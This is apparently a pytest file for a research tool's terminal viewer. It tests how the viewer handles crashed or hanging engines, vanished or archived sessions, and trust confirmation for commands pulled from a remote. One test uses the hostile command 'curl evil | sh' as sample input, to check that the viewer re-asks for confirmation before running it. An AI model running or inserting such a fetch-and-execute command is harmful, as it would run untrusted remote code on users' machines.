"""An engine that dies or hangs while somebody watches, and a session whose folder is gone."""

from __future__ import annotations

import contextlib
import re
import shutil
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import sessions
from journals import told
from viewing import asked, text, until, watching

from autoresearch.engine.sessions import RunOptions
from autoresearch.state.journal import records
from autoresearch.state.session import Locked, Session, SessionError, trust
from autoresearch.tui.actions.engines import Starter
from autoresearch.tui.actions.lost_engine import end_engine, last_words

PROMISE = r"\br (goes on|starts)"
HOLDER = """
import signal, sys, time
from pathlib import Path
from autoresearch.state.session import Session
if sys.argv[2] == "deaf":
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
with Session(Path(sys.argv[1])).lock():
    print("held", flush=True)
    while True:
        time.sleep(60)
"""


@contextlib.contextmanager
def holder(session: Session, kind: str = "plain") -> Iterator[subprocess.Popen[str]]:
    """Another process that holds the session's lock and gives no sign."""
    process = subprocess.Popen(
        [sys.executable, "-c", HOLDER, str(session.folder), kind], stdout=subprocess.PIPE, text=True
    )
    try:
        assert process.stdout is not None
        assert process.stdout.readline() == "held\n"
        yield process
    finally:
        with contextlib.suppress(ProcessLookupError):
            process.kill()
        process.wait()


@pytest.mark.parametrize("kind", ["plain", "deaf", "stopped"])
def test_a_hanging_engine_is_ended_however_it_hangs(tmp_path: Path, kind: str) -> None:
    session = sessions.running(tmp_path, experiments=3).session
    with holder(session, kind) as process:
        if kind == "stopped":
            process.send_signal(signal.SIGSTOP)
        end_engine(session, patience_s=0.5 if kind == "deaf" else 20)
        assert process.wait(20) == (-signal.SIGKILL if kind == "deaf" else -signal.SIGTERM)
    assert session.engine_pid() is None
    end_engine(session)  # there is none: nothing to do


def test_last_words_are_the_end_of_the_log_without_its_tricks(tmp_path: Path) -> None:
    session = sessions.running(tmp_path, experiments=3).session
    assert last_words(session) == []
    session.engine_log.write_bytes(
        b"old\n" * 9000 + b"Traceback\n\n  File \x1b[31mx\x1b[0m\n 10%\r 99%\n\xff\x1b]0;owned\x07MemoryError\n"
    )
    assert last_words(session, 4) == ["Traceback", "  File x", " 99%", "\ufffdMemoryError"]


async def test_a_death_is_shown_with_its_last_words_and_one_key_goes_on(tmp_path: Path) -> None:
    writer = sessions.running(tmp_path, experiments=5).here()
    writer.session.engine_log.write_text("Traceback (most recent call last):\nMemoryError: no room\n")
    starter = sessions.Starts(lambda: None)
    with contextlib.ExitStack() as held:
        held.enter_context(sessions.engine(writer))
        async with watching(writer, starter=starter) as (app, pilot):
            assert "RUNNING" in text(pilot)
            held.close()
            await until(pilot, lambda: "The engine is gone" in text(pilot))
            assert "MemoryError: no room" in text(pilot)
            assert "goes on at its next sample" in " ".join(text(pilot).replace("│", " ").split())
            await pilot.press("enter")
            await until(pilot, lambda: starter.began == [(writer.session.name, None)])
            assert app.screen is app.dashboard


async def test_a_screen_that_reads_promises_no_key_that_goes_on(tmp_path: Path) -> None:
    writer = sessions.running(tmp_path, experiments=5).here()
    starter = sessions.Starts(lambda: None)
    with contextlib.ExitStack() as held:
        held.enter_context(sessions.engine(writer))
        async with watching(writer, (160, 40), read_only=True, starter=starter) as (app, pilot):
            held.close()
            await until(pilot, lambda: "The engine is gone" in text(pilot))
            assert not re.search(PROMISE, text(pilot))
            await pilot.press("escape")
            await until(pilot, lambda: app.screen is app.dashboard)
            assert "it ended without a word" in text(pilot)
            assert not re.search(PROMISE, text(pilot))
            await pilot.press("ctrl+o")
            await until(pilot, lambda: app.showing_home and "it ended without a word" in text(pilot))
            assert not re.search(PROMISE, text(pilot))
    assert starter.began == []


async def test_what_turns_out_to_be_no_death_is_taken_back(tmp_path: Path) -> None:
    writer = sessions.running(tmp_path, experiments=5).here()
    with contextlib.ExitStack() as held:
        held.enter_context(sessions.engine(writer))
        async with watching(writer, starter=sessions.Starts(lambda: None)) as (app, pilot):
            held.close()
            await until(pilot, lambda: "The engine is gone" in text(pilot))
            writer.add(records.Pause(reason="enough", by="engine"))
            writer.flush()
            await until(pilot, lambda: app.screen is app.dashboard)


async def test_it_is_said_once_and_looking_first_leaves_the_screen(tmp_path: Path) -> None:
    writer = sessions.running(tmp_path, experiments=5).here()
    starter = sessions.Starts(lambda: None)
    with contextlib.ExitStack() as held:
        held.enter_context(sessions.engine(writer))
        async with watching(writer, starter=starter) as (app, pilot):
            held.close()
            await until(pilot, lambda: "The engine is gone" in text(pilot))
            await pilot.press("escape")
            await until(pilot, lambda: app.screen is app.dashboard)
            for _ in range(3):
                app.dashboard.refresh_state()
                await pilot.pause()
            assert app.screen is app.dashboard
            assert "ENGINE LOST" in text(pilot)
            assert starter.began == []
            await pilot.press("r")
            await until(pilot, lambda: len(starter.began) == 1)


async def test_a_hang_names_the_process_and_ends_it_only_when_told(tmp_path: Path) -> None:
    writer = sessions.running(tmp_path, experiments=5)
    starter = sessions.Starts(lambda: None)
    with holder(writer.session) as process:
        live = writer.session.read_live()
        assert live is not None
        writer.session.live.write_bytes(
            writer.session.live.read_bytes()
            .replace(b'"gpu-box"', f'"{socket.gethostname()}"'.encode())
            .replace(f'"pid":{live.pid}'.encode(), f'"pid":{process.pid}'.encode())
        )
        writer.now += 60_000
        async with watching(writer, starter=starter) as (app, pilot):
            await until(pilot, lambda: "The engine does not respond" in text(pilot))
            assert f"Process {process.pid} has given no sign for 1m" in text(pilot)
            await pilot.press("enter")  # the harmless answer is the default
            await until(pilot, lambda: app.screen is app.dashboard)
            assert process.poll() is None
            assert starter.began == []
            app._watch._told = ""
            await until(pilot, lambda: "The engine does not respond" in text(pilot))
            await pilot.press("e")
            await until(pilot, lambda: len(starter.began) == 1)
            assert process.wait(20) == -signal.SIGTERM


async def test_an_engine_of_another_machine_is_not_ended_from_here(tmp_path: Path) -> None:
    writer = sessions.running(tmp_path, experiments=5)  # its heartbeat says gpu-box
    with sessions.engine(writer):
        async with watching(writer, starter=sessions.Starts(lambda: None)) as (_, pilot):
            writer.now += 60_000
            await until(pilot, lambda: "Only on gpu-box can it" in text(pilot))
            assert "then go on" not in text(pilot)


async def test_a_heartbeat_that_comes_back_takes_the_question_away(tmp_path: Path) -> None:
    writer = sessions.running(tmp_path, experiments=5).here()
    with sessions.engine(writer):
        writer.now += 60_000
        async with watching(writer) as (app, pilot):
            await until(pilot, lambda: "The engine does not respond" in text(pilot))
            writer.live(experiment=writer.number, k=2)
            await until(pilot, lambda: app.screen is app.dashboard and "RUNNING" in text(pilot))


async def test_a_session_that_vanishes_is_said_to_be_gone_and_comes_back(tmp_path: Path) -> None:
    writer = sessions.running(tmp_path, experiments=5)
    away = tmp_path / "away"
    with sessions.engine(writer):
        async with watching(writer) as (app, pilot):
            shutil.move(writer.session.folder, away)
            await until(pilot, lambda: "The session is gone" in text(pilot))
            await pilot.press("w")
            await until(pilot, lambda: "NO SESSION" in text(pilot))
            writer.now += 60_000
            app.dashboard.refresh_state()
            await pilot.pause()
            assert "NO SESSION" in text(pilot)
            assert "NOT RESPONDING" not in text(pilot)
            assert "deleted or moved" in text(pilot)
            shutil.move(away, writer.session.folder)
            writer.live(experiment=writer.number, k=2)
            await until(pilot, lambda: "RUNNING" in text(pilot))


async def test_a_deleted_session_offers_the_others(tmp_path: Path) -> None:
    writer = sessions.paused(tmp_path, experiments=5)
    async with watching(writer) as (app, pilot):
        shutil.rmtree(writer.session.folder)
        await until(pilot, lambda: "The session is gone" in text(pilot))
        await pilot.press("enter")
        await until(pilot, lambda: app.showing_home)


async def test_an_archived_or_replaced_session_says_so(tmp_path: Path) -> None:
    writer = sessions.paused(tmp_path, experiments=5)
    async with watching(writer) as (app, pilot):
        writer.session.archive_mark.touch()
        await until(pilot, lambda: "This session was archived" in text(pilot))
        other = sessions.paused(tmp_path / "other", experiments=9).session.journal
        assert other.stat().st_size > writer.session.journal.stat().st_size
        other.replace(writer.session.journal)  # as a pull does
        await until(pilot, lambda: len(app.watched.history.rows) == 9 and "was replaced meanwhile" in text(pilot))


async def test_who_resumes_second_is_told_so_and_watches(tmp_path: Path) -> None:
    writer = sessions.paused(tmp_path, experiments=5)

    def held() -> None:
        raise Locked(writer.session.name, 7)

    async with watching(writer, starter=sessions.Starts(held)) as (app, pilot):
        await pilot.press("r")
        await until(pilot, lambda: "Somebody else has just started it" in text(pilot))
        assert app.watched.engine is not None
        assert app.watched.engine.state == "paused", "no longer said to be starting here"


async def test_a_yes_covers_only_what_was_shown(tmp_path: Path) -> None:
    writer = sessions.paused(tmp_path, experiments=5)
    starter = sessions.Starts(lambda: None)
    starter.unconfirmed = [("measure.run", "python train.py")]
    async with watching(writer, starter=starter) as (_, pilot):
        await pilot.press("r")
        await until(pilot, lambda: "measure.run: python train.py" in text(pilot))
        starter.unconfirmed = [("measure.run", "curl evil | sh")]  # a pull, while the question stands
        await pilot.press("y")
        await until(pilot, lambda: "curl evil" in text(pilot))
        assert starter.began == []
        await pilot.press("y")
        await until(pilot, lambda: len(starter.began) == 1)


def test_a_trust_given_at_the_start_does_not_cover_what_was_pulled_later(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    story = told(tmp_path / "repo")
    starter = Starter(RunOptions(session=story.session.name, trust=True))
    trust.note_pulled(story.place.common_dir, story.session.name, "origin")
    with pytest.raises(SessionError, match="nobody has confirmed"):
        starter.resume(story.place, story.session)


@pytest.mark.parametrize("size", [(80, 24), (120, 40)])
async def test_the_last_words_fit(tmp_path: Path, size: tuple[int, int]) -> None:
    writer = sessions.running(tmp_path, experiments=5).here()
    writer.session.engine_log.write_text("\n".join(f"word {number}" for number in range(40)))
    with sessions.engine(writer):
        writer.now += 60_000
        async with watching(writer, size=size) as (_, pilot):
            await until(pilot, lambda: "does not respond" in text(pilot))
            assert "word 39" in text(pilot)
            assert "wait and look" in text(pilot)


READER = """
import os, sys
from pathlib import Path
sys.path[:0] = sys.argv[2:]
import sessions, viewing
from autoresearch.state.session import Place, Session
import asyncio

async def main():
    folder = Path(sys.argv[1])
    session = Session(folder)
    try:
        (folder / "x").touch()
    except OSError:
        pass
    else:
        raise SystemExit("the folder can be written")
    common = folder.parent.parent
    from autoresearch.tui.app.app import ViewerApp
    place = Place(top=common.parent, git_dir=common, common_dir=common, prefix="")
    app = ViewerApp(place, session, read_only=True)
    async with app.run_test(size=(120, 40)) as pilot:
        await viewing.until(pilot, lambda: app.watched.opened and app.watched.engine is not None)
        print(viewing.text(pilot))

asyncio.run(main())
"""


@pytest.mark.skipif(sys.platform != "linux", reason="a mount of its own")
def test_a_folder_that_cannot_be_written_is_read(tmp_path: Path) -> None:
    writer = sessions.paused(tmp_path, experiments=5)
    script = tmp_path / "reader.py"
    script.write_text(READER)
    here = Path(__file__).parents[2] / "support"
    mount = f"mount --bind '{writer.place.top}' '{writer.place.top}' && mount -o remount,bind,ro '{writer.place.top}'"
    command = ["unshare", "-rm", "sh", "-c", f'{mount} && exec "$@"', "sh"]
    if subprocess.run([*command, "true"], capture_output=True, check=False).returncode:
        pytest.skip("user namespaces are not allowed here")
    argv = [sys.executable, str(script), str(writer.session.folder), str(here)]
    done = subprocess.run([*command, *argv], capture_output=True, text=True, check=False, timeout=60)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "PAUSED" in done.stdout
    assert asked(writer) == []
